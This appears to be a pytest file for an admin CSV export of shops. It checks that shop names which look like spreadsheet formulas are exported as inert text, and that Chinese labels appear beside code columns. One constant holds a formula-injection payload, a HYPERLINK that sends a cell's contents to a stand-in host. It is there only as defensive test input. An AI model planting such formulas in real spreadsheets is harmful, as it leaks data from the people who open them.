"""CSV that staff download and open in a spreadsheet: text a shopkeeper typed is never run."""

from __future__ import annotations

import csv
import io

ADMIN = "/api/v1/admin"
FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A2,"老王面馆")'


def test_a_shop_name_that_looks_like_a_formula_is_exported_as_text(client, make):
    places = make.region_tree()
    make.staff("admin_a", "admin", places["street_a"])
    shop = make.shop("shopkeeper", places["street_a"], name=FORMULA_NAME)
    make.shop("other", places["street_a"], name="-1+1 便利店")

    exported = client.login("admin_a").get(f"{ADMIN}/shops/export.csv")

    assert exported.status_code == 200
    assert exported.get_data().startswith("\ufeff".encode())
    header, *rows = csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff")))
    names = {row[header.index("public_id")]: row[header.index("name")] for row in rows}
    assert names[shop.public_id] == "'" + FORMULA_NAME
    assert "'-1+1 便利店" in names.values()
    # Nothing else in the sheet starts a formula either.
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_shop_sheet_gives_each_code_its_chinese_label_beside_it(client, make):
    places = make.region_tree()
    make.staff("admin_a", "admin", places["street_a"])
    shop = make.shop("shopkeeper", places["street_a"], category="repair")
    client.login("admin_a").post(
        f"{ADMIN}/shops/{shop.public_id}/status", json={"status": "suspended", "reason": "无证经营"}
    )
    exported = client.login("admin_a").get(f"{ADMIN}/shops/export.csv")
    header, *rows = csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff")))
    [row] = [dict(zip(header, row, strict=True)) for row in rows]
    assert (row["category"], row["category_label"]) == ("repair", "维修")
    assert (row["status"], row["status_label"]) == ("suspended", "停业整顿")
    assert (row["last_inspection_result"], row["last_inspection_result_label"]) == ("", "")
    assert header.index("category_label") == header.index("category") + 1
